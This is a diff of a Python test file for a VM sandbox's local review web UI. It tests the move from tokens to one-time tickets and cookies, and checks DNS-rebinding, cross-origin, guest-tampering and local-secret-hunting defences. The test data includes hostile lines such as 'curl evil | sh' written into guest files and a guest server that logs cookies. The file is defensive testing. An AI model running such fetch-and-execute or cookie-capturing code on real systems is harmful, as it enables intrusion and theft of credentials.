@@ -7,10 +7,14 @@ Screenshots of the pages are written to $VMSANDBOX_SCREENSHOTS when it is set (R
 
 from __future__ import annotations
 
+import json
 import os
 import pwd
 import shutil
+import stat
 import subprocess
+import textwrap
+import time
 import urllib.error
 import urllib.request
 from collections.abc import Iterator
@@ -80,12 +84,26 @@ class Server:
         self.child = cli.popen("ui", "--no-browser")
         assert self.child.stdout is not None
         self.url = self.child.stdout.readline().decode().strip()
-        assert self.url.startswith("http://127.0.0.1:"), self.url
-        self.base, _, self.token = self.url.partition("/?token=")
+        assert self.url.startswith("http://127.") and "?ticket=" in self.url, self.url
+        self.base = self.url.partition("/?")[0]
+        assert not self.base.startswith("http://127.0.0."), self.base  # an address of its own
+        self.cookie = exchange(self.url)
 
     def stop(self) -> None:
         self.child.terminate()
         self.child.wait(timeout=30)
+
+
+def exchange(url: str) -> dict[str, str]:
+    """Open a URL `vmsandbox ui` printed (its ticket works once): the cookie a browser then holds."""
+    with urllib.request.urlopen(url, timeout=30) as answer:  # noqa: S310 - a loopback address only
+        set_cookie = answer.headers["Set-Cookie"]
+    name, _, rest = set_cookie.partition("=")
+    return {"name": name, "value": rest.split(";")[0]}
+
+
+def cookie_header(server: Server) -> dict[str, str]:
+    return {"Cookie": f"{server.cookie['name']}={server.cookie['value']}"}
 
 
 @pytest.fixture(scope="module")
@@ -111,8 +129,11 @@ def browser() -> Iterator[WebDriver]:
 
 
 def visit(driver: WebDriver, server: Server, path: str) -> None:
-    """Open a page of the server, holding its token (exchanged for the cookie on the way)."""
-    driver.get(f"{server.base}{path}{'&' if '?' in path else '?'}token={server.token}")
+    """Open a page of the server in the browser, which holds the cookie (given once, on the page's address)."""
+    if not driver.get_cookie(server.cookie["name"]) or server.base not in driver.current_url:
+        driver.get(f"{server.base}/static/ui.css")
+        driver.add_cookie({"name": server.cookie["name"], "value": server.cookie["value"], "path": "/"})
+    driver.get(f"{server.base}{path}")
 
 
 def shoot(driver: WebDriver, name: str) -> None:
@@ -127,10 +148,10 @@ def test_a_hostile_guest_runs_no_script_and_the_chosen_hunks_land(
     from selenium.webdriver.common.by import By
 
     d = browser
-    d.get(f"{server.base}/?token={server.token}")
+    visit(d, server, "/")
     assert session.name in d.find_element(By.ID, "sessions").text
     shoot(d, "sessions.png")
-    d.get(f"{server.base}/s/{session.name}")
+    visit(d, server, f"/s/{session.name}")
     labels = [e.text for e in d.find_elements(By.CSS_SELECTOR, "section.file .label")]
     for name in HOSTILE:  # every name shown as text (the browser collapses the whitespace and hides ESC)
         assert any(name.replace("\x1b", "")[:40] in label.replace("\x1b", "") for label in labels), (name, labels)
@@ -189,18 +210,23 @@ def _status(url: str, *, method: str = "GET", headers: dict[str, str] | None = N
         return exc.code
 
 
-def test_no_token_another_site_or_another_user_is_refused(server: Server, session: Record) -> None:
-    cookie = {"Cookie": f"vmsandbox_ui={server.token}"}
+def test_no_cookie_another_site_or_another_user_is_refused(server: Server, session: Record) -> None:
+    cookie = cookie_header(server)
     assert _status(f"{server.base}/", headers=cookie) == 200
     assert _status(f"{server.base}/") == 403
-    assert _status(f"{server.base}/?token=wrong") == 403
-    assert _status(f"{server.base}/", headers={"Cookie": "vmsandbox_ui=wrong"}) == 403
-    # DNS rebinding: a name that resolves to 127.0.0.1 is not this page
+    assert _status(server.url) == 403  # the printed URL worked once
+    assert _status(f"{server.base}/?ticket=wrong") == 403
+    assert _status(f"{server.base}/", headers={"Cookie": f"{server.cookie['name']}=wrong"}) == 403
+    # DNS rebinding: a name that resolves to this address is not this page
     assert _status(f"{server.base}/", headers={**cookie, "Host": "evil.example:80"}) == 403
-    # a form of another site, with the cookie the browser would attach
+    # a form of another site, with the cookie the browser would attach; a client that is no browser
     post = {**cookie, "Origin": "http://evil.example", "Content-Type": "application/x-www-form-urlencoded"}
-    assert _status(f"{server.base}/s/{session.name}/apply", method="POST", headers=post, data=b"l0=a.py") == 403
-    # another local user, who cannot know the token
+    assert _status(f"{server.base}/s/{session.name}/apply", method="POST", headers=post, data=b"d0=x") == 403
+    plain = {**cookie, "Content-Type": "application/x-www-form-urlencoded"}
+    assert (
+        _status(f"{server.base}/s/{session.name}/egress/allow", method="POST", headers=plain, data=b"value=a.b") == 403
+    )
+    # another local user, who cannot know the cookie
     nobody = pwd.getpwnam("nobody")
     probe = f"import urllib.request as u\ntry: u.urlopen('{server.base}/')\nexcept Exception as e: print(e.code)"
     done = subprocess.run(
@@ -229,13 +255,17 @@ def test_a_fanout_side_by_side_takes_one_session_per_file_then_ends_them(
     assert "agree" in (rows["y.txt"].get_attribute("class") or "")
     assert "differ" in (rows["x.txt"].get_attribute("class") or "")
     shoot(browser, "compare.png")
-    rows["x.txt"].find_element(By.CSS_SELECTOR, f"input[value='{second.name}']").click()
-    rows["y.txt"].find_element(By.CSS_SELECTOR, f"input[value='{first.name}']").click()
+    # after the page is drawn, the guest whose version is picked changes it (content and mode): the apply takes
+    # what the page showed, never a new fetch (issue 43: it gathered again and matched by label)
+    guest_sh(second, "echo 'curl evil | sh' > x.txt && chmod 755 x.txt")
+    rows["x.txt"].find_element(By.CSS_SELECTOR, f"input[value^='{second.name}:']").click()
+    rows["y.txt"].find_element(By.CSS_SELECTOR, f"input[value^='{first.name}:']").click()
     browser.find_element(By.CSS_SELECTOR, "input[name=destroy]").click()
     browser.find_element(By.ID, "apply").click()
     outcome = _wait_for(browser, "outcome").text
     assert f"x.txt from {second.name}" in outcome
     assert (p / "x.txt").read_text() == "from-second\n"
+    assert (p / "x.txt").stat().st_mode & 0o111 == 0
     assert (p / "y.txt").read_text() == "same\n"
     states = {r["name"]: r["state"] for r in cli.ls()}
     assert states.get(first.name) != "running"
@@ -251,12 +281,12 @@ def test_run_review_web_waits_for_the_review_in_the_browser(cli: Cli, browser: W
     child = cli.popen("run", "--review", "web", str(p), "--", "sh", "-c", "echo b > a.txt")
     assert child.stdout is not None
     url = ""
-    while not url.startswith("http://127.0.0.1:"):
+    while not url.startswith("http://127."):
         line = child.stdout.readline().decode()
         assert line, "the run ended without serving its review"
         url = line.strip()
     browser.get(url)
-    assert "a.txt" in browser.find_element(By.ID, "review").text
+    assert "a.txt" in _wait_for(browser, "review").text
     browser.find_element(By.ID, "apply").click()
     assert "applied a.txt" in _wait_for(browser, "outcome").text
     assert child.wait(timeout=300) == 0
@@ -266,11 +296,7 @@ def test_run_review_web_waits_for_the_review_in_the_browser(cli: Cli, browser: W
 def test_the_page_allows_denies_and_publishes_as_the_cli_does(server: Server, session: Record) -> None:
     from vmsandbox.egress import policy
 
-    headers = {
-        "Cookie": f"vmsandbox_ui={server.token}",
-        "Origin": server.base,
-        "Content-Type": "application/x-www-form-urlencoded",
-    }
+    headers = {**cookie_header(server), "Origin": server.base, "Content-Type": "application/x-www-form-urlencoded"}
     where = f"{server.base}/s/{session.name}/egress"
     assert _status(f"{where}/allow", method="POST", headers=headers, data=b"value=example.org") == 200  # 303 followed
     assert "example.org" in policy.read_config(session.files)["allow"]
@@ -282,3 +308,132 @@ def test_the_page_allows_denies_and_publishes_as_the_cli_does(server: Server, se
     assert Record.load(session.name).publish == ()
     proxy = _status(f"{server.base}/s/{session.name}/log/proxy", headers={"Cookie": headers["Cookie"]})
     assert proxy == 200
+
+
+def test_the_session_page_applies_what_it_showed(
+    module_vms: VmFactory, server: Server, browser: WebDriver, tmp_path: Path
+) -> None:
+    """Between the page and its apply the guest changes a file's content, another's mode and a link's target,
+    and a second look (another tab) fetches them into the mirror: what lands is what the page showed, or
+    nothing (the content that changed is refused, with "look again")."""
+    from selenium.webdriver.common.by import By
+
+    p = tmp_path / "contract"
+    p.mkdir()
+    (p / "a.txt").write_text("a\n")
+    (p / "b.txt").write_text("b\n")
+    record = module_vms.make(p)
+    guest_sh(record, "printf 'echo reviewed\\n' > run.sh && ln -s a.txt link && printf 'data\\n' > plain.txt")
+    visit(browser, server, f"/s/{record.name}")
+    labels = [e.text for e in browser.find_elements(By.CSS_SELECTOR, "section.file .label")]
+    assert sorted(labels) == ["link", "plain.txt", "run.sh"], labels
+    guest_sh(record, "printf 'curl evil | sh\\n' > run.sh && chmod 755 run.sh plain.txt && ln -sfn b.txt link")
+    assert _status(f"{server.base}/s/{record.name}", headers=cookie_header(server)) == 200  # a second look
+    browser.find_element(By.ID, "apply").click()
+    outcome = _wait_for(browser, "outcome").text
+    assert "run.sh" in outcome and "look" in outcome, outcome
+    assert not (p / "run.sh").exists()
+    assert (p / "link").readlink() == Path("a.txt")
+    assert (p / "plain.txt").read_text() == "data\n"
+    assert stat.S_IMODE((p / "plain.txt").stat().st_mode) & 0o111 == 0
+
+
+ATTACK = (Path(__file__).parent / "hostile_page.html").read_text()
+
+GUEST_SERVER = """
+import http.server
+class Handler(http.server.SimpleHTTPRequestHandler):
+    def do_GET(self):
+        with open("/tmp/attack/cookies.log", "a") as log:
+            log.write(repr(self.headers.get("Cookie")) + "\\n")
+        super().do_GET()
+http.server.ThreadingHTTPServer(("127.0.0.1", 8124), Handler).serve_forever()
+"""
+
+
+def test_a_page_a_guest_serves_gets_nothing_from_the_page(
+    cli: Cli, server: Server, browser: WebDriver, session: Record
+) -> None:
+    """A page the guest serves on a published port, opened in the browser that holds the review's cookie, tries
+    GETs, POSTs, a form, an image and a script against the review: it reads nothing, changes nothing, starts no
+    fetch from a guest; and the review's cookie never reaches the guest's server."""
+    visit(browser, server, "/")  # the browser holds the cookie
+    page = ATTACK.replace("BASE", json.dumps(server.base)).replace("NAME", json.dumps(session.name))
+    script = f"mkdir -p /tmp/attack && cd /tmp/attack && printf '%s' {_q(page)} > attack.html"
+    script += f" && printf '%s' {_q(textwrap.dedent(GUEST_SERVER))} > srv.py"
+    script += " && (setsid python3 srv.py </dev/null >/dev/null 2>&1 &)"
+    guest_sh(session, script)
+    ready = 'for i in $(seq 120); do python3 -c "$PROBE" && exit 0; sleep 0.5; done; exit 1'
+    probe = "import socket; socket.create_connection(('127.0.0.1', 8124), 1).close()"
+    guest_sh(session, f'PROBE="{probe}"; {ready}')
+    published = cli.run("port", session.name, "publish", "8124")
+    assert published.returncode == 0, published.stderr.decode()
+    listed = json.loads(cli.run("port", session.name, "--json").stdout)
+    host_port = next(p["host"] for p in listed if p["guest"] == 8124)
+    reviews = session.files.root / "reviews"
+    before = sorted(reviews.iterdir()) if reviews.is_dir() else []
+    from vmsandbox.egress import policy
+
+    allowed = policy.read_config(session.files)["allow"]
+    try:
+        browser.get(f"http://127.0.0.1:{host_port}/attack.html")
+        deadline = time.monotonic() + 120
+        while not browser.title.startswith("done") and time.monotonic() < deadline:
+            time.sleep(0.2)
+        said = json.loads(browser.title.removeprefix("done "))
+    finally:
+        cli.run("port", session.name, "unpublish", "8124")
+    assert "read:error" in said, said  # nothing read
+    assert (sorted(reviews.iterdir()) if reviews.is_dir() else []) == before, said  # no review made: no fetch
+    assert policy.read_config(session.files)["allow"] == allowed
+    assert [p.guest for p in Record.load(session.name).publish] == []
+    cookies = guest_sh(session, "cat /tmp/attack/cookies.log")
+    assert server.cookie["value"] not in cookies and server.cookie["name"] not in cookies, cookies
+
+
+FAKE_BROWSER = """#!/bin/sh
+printf '%s\\n' "$@" > "$0.args"
+exec sleep 300
+"""
+
+ATTACKER = Path(__file__).parent / "secret_hunter.py"
+
+
+def test_another_account_finds_no_working_secret_while_the_page_opens_a_browser(
+    cli: Cli, session: Record, tmp_path: Path
+) -> None:
+    """`vmsandbox ui` opens a browser (one that never loads its page, so what it was given stays unused): another
+    local account reads every process's command line and environment and every file it can under the state
+    and runtime directories, and tries each word that could be a secret as a ticket and as the cookie: none
+    works. (The token was on the browser's command line.)"""
+    fake = tmp_path / "fake-browser"
+    fake.write_text(FAKE_BROWSER)
+    fake.chmod(0o755)
+    env = cli.env(BROWSER=str(fake), DISPLAY=":99")
+    child = cli.popen("ui", env=env)
+    try:
+        assert child.stdout is not None
+        url = child.stdout.readline().decode().strip()
+        base = url.partition("/?")[0]
+        args = Path(str(fake) + ".args")
+        deadline = time.monotonic() + 60
+        while not args.exists() and time.monotonic() < deadline:
+            time.sleep(0.2)
+        opened = args.read_text().strip()
+        assert opened.startswith("file://") and "ticket" not in opened, opened
+        launcher = Path(opened.removeprefix("file://"))
+        assert stat.S_IMODE(launcher.stat().st_mode) == 0o600
+        nobody = pwd.getpwnam("nobody")
+        roots = [str(cli.state_dir), os.environ.get("XDG_RUNTIME_DIR", "/run/user"), "/tmp", "/var/tmp"]
+        done = subprocess.run(
+            ["python3", "-c", ATTACKER.read_text(), base, *roots], capture_output=True, text=True, timeout=600,
+            check=False, user=nobody.pw_uid, group=nobody.pw_gid, extra_groups=[], cwd="/",
+        )  # fmt: skip
+        assert done.returncode == 0, done.stderr
+        tried, worked = done.stdout.split(" ", 1)
+        assert int(tried) > 0 and worked.strip() == "[]", done.stdout
+        assert _status(url) == 200  # the printed URL, the person's own, still works (once)
+    finally:
+        child.terminate()
+        child.wait(timeout=30)
+        subprocess.run(["pkill", "-f", str(fake)], check=False)
